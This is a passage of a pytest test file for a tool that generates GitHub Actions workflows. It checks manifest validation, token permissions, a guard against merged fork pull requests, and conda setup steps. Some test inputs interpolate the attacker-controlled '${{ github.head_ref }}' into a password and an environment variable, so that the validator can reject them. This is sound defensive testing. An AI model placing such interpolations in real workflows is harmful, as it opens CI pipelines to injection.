            f"        - uses: docker/login-action@{CHECKOUT_SHA}\n          with: {{password: '${{{{ github.head_ref }}}}'}}\n",
            "mlops.yaml:10:28: runners.train.steps.after_install[0].with.password: only ${{ secrets.NAME }}",
        ),
        (
            "runners:\n  train:\n    env: {X: '${{ github.head_ref }}'}\n",
            "runners.train.env.X: '${{' is not allowed",
        ),
        (
            "runners:\n  train:\n    steps:\n      after_repro:\n        - {name: both, run: x, uses: ./a}\n",
            "after_repro[0]",
        ),
    ],
)
def test_job_customisation_is_checked_with_its_position(snippet: str, message: str) -> None:
    from mlops_gitops.errors import ManifestError

    with pytest.raises(ManifestError) as info:
        load_manifest_text(MINIMAL + snippet)
    assert any(message in line for line in info.value.lines()), info.value.lines()


def test_registry_workflow_only_with_record_registry() -> None:
    assert WF + "mlops-registry.yml" not in render_workflows(project_of(example_manifest()))
    files = render_workflows(project_of(full_manifest("none")))
    wf = parse(files[WF + "mlops-registry.yml"])
    assert wf["on"]["workflow_run"]["workflows"] == ["mlops-train"]
    assert wf["on"]["pull_request"] == {"types": ["closed"], "branches": ["trunk"]}
    version, stages = wf["jobs"]["version"], wf["jobs"]["stages"]
    # Tags only: no job here can write a pull request, and none runs the project's code.
    assert version["permissions"] == {"contents": "write"}
    assert stages["permissions"] == {"contents": "write", "pull-requests": "read"}
    assert steps(version)[0]["with"]["ref"] == "${{ github.event.workflow_run.head_sha }}"
    assert steps(version)[-1]["run"] == "mlops-gitops register --version"
    # A fork's merged PR never reaches the write token's job.
    assert "head.repo.full_name == github.repository" in stages["if"]
    assert steps(stages)[-1]["run"] == "mlops-gitops register --stages"
    assert steps(stages)[-1]["env"]["MLOPS_GITOPS_BOT_LOGIN"] == "mlops-deployer[bot]"


def test_a_conda_project_gets_its_environment_instead_of_setup_python_and_no_pip_install() -> None:
    manifest = load_manifest_text(CONDA)
    assert manifest.conda == "conda-linux-64.lock" and manifest.install == ""
    files = render_workflows(project_of(manifest))
    for name in ("mlops-pr.yml", "mlops-train.yml"):
        train = parse(files[WF + name])["jobs"]["train"]
        names = [s.get("name", "") for s in steps(train)]
        create = next(s for s in steps(train) if s.get("name") == "Create the project's conda environment")
        assert create["env"]["CONDA_FILE"] == "conda-linux-64.lock"
        # The runner's own conda, the environment's bin/ on PATH before the tool's commands are.
        assert '"$CONDA/bin/conda" create --quiet --yes --file "$CONDA_FILE"' in create["run"]
        assert 'echo "$RUNNER_TEMP/project-env/bin" >> "$GITHUB_PATH"' in create["run"]
        assert not any(n.endswith("for the project") for n in names)
        assert "Install the project's requirements" not in names
        tool = next(n for n in names if n.startswith("Install mlops-gitops"))
        assert names.index("Set up Python for mlops-gitops") < names.index(create["name"]) < names.index(tool)


def test_a_conda_install_command_runs_inside_the_environment_when_given() -> None:
    manifest = load_manifest_text(
        CONDA.replace("requirements:", "install: python -m pip install ., requirements:")
    )
    train = parse(render_workflows(project_of(manifest))[WF + "mlops-train.yml"])["jobs"]["train"]
    names = [s.get("name", "") for s in steps(train)]
    assert names.index("Create the project's conda environment") < names.index(
        "Install the project's requirements"
    )
